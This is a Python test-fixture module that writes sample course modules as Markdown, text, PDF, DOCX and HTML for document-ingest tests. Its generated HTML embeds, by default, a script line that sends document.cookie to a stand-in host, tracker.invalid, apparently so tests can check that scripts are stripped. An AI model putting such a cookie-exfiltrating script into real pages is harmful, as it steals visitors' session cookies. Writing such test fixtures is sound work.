"""Course modules written as Markdown, plain text, PDF, DOCX and HTML from one description, for
the ingest tests: each format's file is generated here from text (fpdf2 for PDF, python-docx
for DOCX), never checked in, so a test can compare what comes out with what went in.

The modules are test data only: nothing from them appears in product code.
"""

from __future__ import annotations

import html
import zipfile
from dataclasses import dataclass, field
from pathlib import Path


@dataclass(frozen=True)
class Part:
    heading: str
    paragraphs: list[str]
    bullets: list[str] = field(default_factory=list)
    table: list[tuple[str, ...]] = field(default_factory=list)  # header row first


@dataclass(frozen=True)
class Module:
    title: str
    parts: list[Part]

    def sentences(self) -> list[str]:
        """Every sentence of its prose, as written."""
        from knowledge.text import split_prose

        return [s for part in self.parts for p in part.paragraphs for s in split_prose(p)]


def write_markdown(module: Module, path: Path) -> Path:
    lines = [f"# {module.title}", ""]
    for part in module.parts:
        lines += [f"## {part.heading}", ""]
        for paragraph in part.paragraphs:
            lines += [paragraph, ""]
        if part.bullets:
            lines += [f"- {item}" for item in part.bullets] + [""]
        if part.table:
            lines.append("| " + " | ".join(part.table[0]) + " |")
            lines.append("|" + " --- |" * len(part.table[0]))
            lines += ["| " + " | ".join(row) + " |" for row in part.table[1:]] + [""]
    path.write_text("\n".join(lines), encoding="utf-8")
    return path


def write_text(module: Module, path: Path) -> Path:
    lines = [module.title, ""]
    for number, part in enumerate(module.parts, 1):
        lines += [f"{number}. {part.heading}", ""]
        for paragraph in part.paragraphs:
            lines += [paragraph, ""]
        if part.bullets:
            lines += [f"* {item}" for item in part.bullets] + [""]
    path.write_text("\n".join(lines), encoding="utf-8")
    return path


def write_pdf(module: Module, path: Path, **encryption: str) -> Path:
    from fpdf import FPDF

    pdf = FPDF()
    pdf.add_page()
    step = {"new_x": "LMARGIN", "new_y": "NEXT"}
    pdf.set_font("Helvetica", "B", 20)
    pdf.multi_cell(0, 10, module.title, **step)
    for number, part in enumerate(module.parts, 1):
        pdf.ln(4)
        pdf.set_font("Helvetica", "B", 14)
        pdf.multi_cell(0, 8, f"{number}. {part.heading}", **step)
        pdf.set_font("Helvetica", "", 11)
        for paragraph in part.paragraphs:
            pdf.multi_cell(0, 6, paragraph, **step)
            pdf.ln(3)
        for item in part.bullets:
            pdf.multi_cell(0, 6, f"- {item}", **step)
        if part.table:
            pdf.ln(2)
            with pdf.table() as table:
                for row in part.table:
                    cells = table.row()
                    for cell in row:
                        cells.cell(cell)
    if encryption:
        pdf.set_encryption(**encryption)
    pdf.output(str(path))
    return path


def write_docx(module: Module, path: Path) -> Path:
    import docx

    document = docx.Document()
    document.add_heading(module.title, 0)
    for part in module.parts:
        document.add_heading(part.heading, 1)
        for paragraph in part.paragraphs:
            document.add_paragraph(paragraph)
        for item in part.bullets:
            document.add_paragraph(item, style="List Bullet")
        if part.table:
            table = document.add_table(rows=len(part.table), cols=len(part.table[0]))
            for r, row in enumerate(part.table):
                for c, cell in enumerate(row):
                    table.cell(r, c).text = cell
    document.save(str(path))
    return path


SCRIPT = "fetch('https://tracker.invalid/collect?u=' + document.cookie)"


def write_html(module: Module, path: Path, scripts: bool = True) -> Path:
    body = [f"<h1>{html.escape(module.title)}</h1>"]
    for part in module.parts:
        body.append(f"<h2>{html.escape(part.heading)}</h2>")
        body += [f"<p>{html.escape(p)}</p>" for p in part.paragraphs]
        if part.bullets:
            body.append("<ul>" + "".join(f"<li>{html.escape(i)}</li>" for i in part.bullets) + "</ul>")
        if part.table:
            rows = [
                "<tr>" + "".join(f"<{tag}>{html.escape(c)}</{tag}>" for c in row) + "</tr>"
                for tag, row in [("th", part.table[0])] + [("td", r) for r in part.table[1:]]
            ]
            body.append("<table>" + "".join(rows) + "</table>")
    script = f"<script>{SCRIPT}</script>" if scripts else ""
    page = (f"<!doctype html><html><head><title>{html.escape(module.title)}</title>{script}</head>"
            f"<body><nav><a href='/'>Home</a></nav><main>{''.join(body)}</main>{script}</body></html>")
    path.write_text(page, encoding="utf-8")
    return path


def write_scanned_pdf(path: Path, noise: int = 0) -> Path:
    """A PDF whose only page is an image: what a scanner writes. ``noise`` pixels wide of random
    colour make it large (random pixels do not compress)."""
    import os

    from fpdf import FPDF
    from PIL import Image

    pdf = FPDF()
    pdf.add_page()
    if noise:
        image = Image.frombytes("RGB", (noise, noise), os.urandom(noise * noise * 3))
    else:
        image = Image.new("RGB", (400, 300), "lightgray")
    pdf.image(image, x=10, y=10, w=150)
    pdf.output(str(path))
    return path


def write_zip_as_docx(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("prices.csv", "item,price\nbox,2\n")
        archive.writestr("notes.txt", "not a word document")
    return path


WRITERS = {".md": write_markdown, ".txt": write_text, ".pdf": write_pdf, ".docx": write_docx,
           ".html": write_html}


def _font_folder() -> Path:
    import matplotlib

    return Path(matplotlib.get_data_path()) / "fonts" / "ttf"  # DejaVu ships with matplotlib


def write_document_pdf(document, path: Path) -> Path:
    """A parsed course document (knowledge.types.CourseDocument) typeset as a multi-page PDF in a
    Unicode font: title, lesson and section headings in bold at falling sizes, paragraphs and
    bullets wrapped by the typesetter, tables as ruled tables."""
    from fpdf import FPDF

    fonts = _font_folder()
    pdf = FPDF()
    pdf.add_font("DejaVu", "", str(fonts / "DejaVuSans.ttf"))
    pdf.add_font("DejaVu", "B", str(fonts / "DejaVuSans-Bold.ttf"))
    pdf.add_page()
    step = {"new_x": "LMARGIN", "new_y": "NEXT"}

    def heading(text: str, size: int) -> None:
        pdf.ln(3)
        pdf.set_font("DejaVu", "B", size)
        pdf.multi_cell(0, size * 0.5, text, **step)
        pdf.set_font("DejaVu", "", 10)

    heading(document.module_title, 20)
    for lesson in document.lessons:
        heading(lesson.title, 16)
        for section in lesson.sections:
            if section.title != lesson.title:
                heading(section.title, 13)
            rows: list[list[str]] = []
            for block in section.blocks:
                if block.kind == "table_row":
                    cells = [line.split(": ", 1) for line in block.text.split("\n")]
                    if not rows:
                        rows.append([name for name, *_ in cells])
                    rows.append([value[0] if value else "" for _, *value in cells])
                    continue
                for line in block.text.split("\n"):
                    bullet = block.kind in {"bullets", "discussion"}
                    pdf.multi_cell(0, 5, f"• {line}" if bullet else line, **step)
                pdf.ln(3)
            if rows:
                pdf.set_font("DejaVu", "", 8)
                with pdf.table() as table:
                    for row in rows:
                        cells = table.row()
                        for cell in row:
                            cells.cell(cell)
                pdf.set_font("DejaVu", "", 10)
                pdf.ln(3)
    pdf.output(str(path))
    return path


def _blocks_and_tables(section):
    """A section's non-table lines (with whether each is a list item) and its table rows."""
    lines: list[tuple[str, bool]] = []
    rows: list[list[str]] = []
    for block in section.blocks:
        if block.kind == "table_row":
            cells = [line.split(": ", 1) for line in block.text.split("\n")]
            if not rows:
                rows.append([name for name, *_ in cells])
            rows.append([value[0] if value else "" for _, *value in cells])
            continue
        lines += [(line, block.kind in {"bullets", "discussion"}) for line in block.text.split("\n")]
    return lines, rows


def write_document_docx(document, path: Path) -> Path:
    """A parsed course document as Word: Title, Heading 1 per lesson, Heading 2 per section."""
    import docx

    out = docx.Document()
    out.add_heading(document.module_title, 0)
    for lesson in document.lessons:
        out.add_heading(lesson.title, 1)
        for section in lesson.sections:
            if section.title != lesson.title:
                out.add_heading(section.title, 2)
            lines, rows = _blocks_and_tables(section)
            for line, bullet in lines:
                out.add_paragraph(line, style="List Bullet" if bullet else None)
            if rows:
                table = out.add_table(rows=len(rows), cols=len(rows[0]))
                for r, row in enumerate(rows):
                    for c, cell in enumerate(row):
                        table.cell(r, c).text = cell
    out.save(str(path))
    return path


def write_document_html(document, path: Path) -> Path:
    """A parsed course document as one HTML page; its tables have no <th> (header row in <td>)."""
    out = [f"<h1>{html.escape(document.module_title)}</h1>"]
    for lesson in document.lessons:
        out.append(f"<h2>{html.escape(lesson.title)}</h2>")
        for section in lesson.sections:
            if section.title != lesson.title:
                out.append(f"<h3>{html.escape(section.title)}</h3>")
            lines, rows = _blocks_and_tables(section)
            for line, bullet in lines:
                out.append(f"<ul><li>{html.escape(line)}</li></ul>" if bullet else f"<p>{html.escape(line)}</p>")
            if rows:
                out.append("<table>" + "".join(
                    "<tr>" + "".join(f"<td>{html.escape(cell)}</td>" for cell in row) + "</tr>" for row in rows
                ) + "</table>")
    path.write_text(f"<html><head><meta charset='utf-8'></head><body>{''.join(out)}</body></html>",
                    encoding="utf-8")
    return path


# A small module of another domain, for the material tab's handler and browser tests.
BIKES = Module("Renting Cargo Bikes to Shops", [
    Part("Pricing Bike Rentals", [
        "Cargo bike rentals are priced per half day. A shop that rents a cargo bike for deliveries "
        "pays a deposit of three hundred euros, returned when the bike comes back unscratched.",
    ], table=[("Plan", "Price", "Includes"),
              ("Half day", "Twenty euros", "Helmet and lock"),
              ("Full week", "One hundred euros", "Weekly battery check")]),
    Part("Charging the Batteries", [
        "Every cargo bike battery is charged overnight in a fireproof cabinet. A battery that "
        "loses more than a fifth of its range is swapped before the next rental.",
    ]),
])


@dataclass(frozen=True)
class Chapter:
    """A textbook chapter for a two-column page: ``blocks`` are ("h1"|"h2"|"p"|"li"|"box"|"table"
    |"aside", content) in reading order; a paragraph's "[n]" calls footnote n of ``notes``."""

    number: str
    title: str
    blocks: list[tuple[str, object]]
    notes: dict[str, str] = field(default_factory=dict)
    header: str = "Running head of the book"


def write_columns_pdf(chapter: Chapter, path: Path) -> Path:
    """The chapter typeset as a textbook page (fpdf2, placed line by line): A4, two columns, a
    running head and a page number on every page, bold numbered headings, footnote calls set
    small and raised with their notes in small type across the foot of the page, boxed sidebars
    (a frame round a bold title over smaller text) and ruled tables within one column."""
    import re

    from fpdf import FPDF

    fonts = _font_folder()
    pdf = FPDF(unit="pt", format="A4")
    pdf.set_auto_page_break(False)
    pdf.add_font("Sans", "", str(fonts / "DejaVuSans.ttf"))
    pdf.add_font("Sans", "B", str(fonts / "DejaVuSans-Bold.ttf"))
    width, height = pdf.w, pdf.h
    margin, gutter, top, bottom = 51.0, 20.0, 60.0, height - 120.0
    column = (width - 2 * margin - gutter) / 2
    at = {"column": 0, "y": top}
    called: list[str] = []

    def start_page() -> None:
        pdf.add_page()
        pdf.set_font("Sans", "", 8)
        pdf.set_xy(margin, 28)
        pdf.cell(200, 10, f"Chapter {chapter.number}")
        pdf.set_xy(width - margin - 250, 28)
        pdf.cell(250, 10, chapter.header, align="R")
        at.update(column=0, y=top)

    def end_page() -> None:
        y = bottom + 20
        for number in called:
            pdf.set_font("Sans", "", 6)
            pdf.set_xy(margin, y - 1)
            pdf.cell(6, 8, number)
            pdf.set_font("Sans", "", 7.5)
            pdf.set_xy(margin + 6, y)
            pdf.multi_cell(width - 2 * margin - 6, 9.5, chapter.notes[number])
            y = pdf.get_y() + 3
        called.clear()
        pdf.set_font("Sans", "", 8)
        pdf.set_xy(0, height - 34)
        pdf.cell(width, 10, str(pdf.page_no()), align="C")

    def x() -> float:
        return margin + at["column"] * (column + gutter)

    def room(needed: float) -> None:
        if at["y"] + needed <= bottom:
            return
        if at["column"] == 0:
            at.update(column=1, y=top)
        else:
            end_page()
            start_page()

    def wrapped(text: str, style: str, size: float, span: float) -> list[str]:
        pdf.set_font("Sans", style, size)
        return pdf.multi_cell(span, size * 1.3, text, dry_run=True, output="LINES")

    def write(text: str, style: str, size: float, indent: float = 0, bullet: bool = False, after: float = 5) -> None:
        calls = re.findall(r"\[(\d)\]", text)
        text = re.sub(r"\[(\d)\]", "", text)
        lead = size * 1.3
        lines = wrapped(text, style, size, column - indent)
        for index, line in enumerate(lines):
            room(lead)
            pdf.set_font("Sans", style, size)
            if bullet and index == 0:
                pdf.set_xy(x() + 1, at["y"])
                pdf.cell(8, lead, "\u2022")
            pdf.set_xy(x() + indent, at["y"])
            pdf.cell(column - indent, lead, line)
            at["y"] += lead
        for number in calls:  # raised after the last word, in small type
            pdf.set_font("Sans", style, size)
            end = x() + indent + pdf.get_string_width(lines[-1]) + 1
            pdf.set_font("Sans", "", 6)
            pdf.set_xy(end, at["y"] - lead - 3)
            pdf.cell(6, 8, number)
            called.append(number)
        at["y"] += after

    start_page()
    write(f"Chapter {chapter.number}", "", 10, after=2)
    write(chapter.title, "B", 19, after=8)
    for kind, content in chapter.blocks:
        if kind == "h1":
            room(60)
            write(str(content), "B", 12, after=4)
        elif kind == "h2":
            room(40)
            write(str(content), "B", 9.5, after=3)
        elif kind == "p":
            write(str(content), "", 9.5)
        elif kind == "li":
            write(str(content), "", 9.5, indent=10, bullet=True, after=2)
        elif kind == "box":
            title, text = content
            body = wrapped(text, "", 8.5, column - 12)
            needed = 9 * 1.3 + len(body) * 8.5 * 1.3 + 12
            room(needed + 6)
            pdf.rect(x(), at["y"], column, needed)
            at["y"] += 5
            write(title, "B", 9, indent=6, after=1)
            write(text, "", 8.5, indent=6, after=12)
        elif kind == "table":
            rows = list(content)
            room(14 * len(rows) + 6)
            cell = column / len(rows[0])
            for row in rows:
                pdf.set_font("Sans", "", 7.5)
                for index, text in enumerate(row):
                    pdf.set_xy(x() + index * cell, at["y"])
                    pdf.cell(cell, 14, text, border=1)
                at["y"] += 14
            at["y"] += 6
    end_page()
    pdf.output(str(path))
    return path
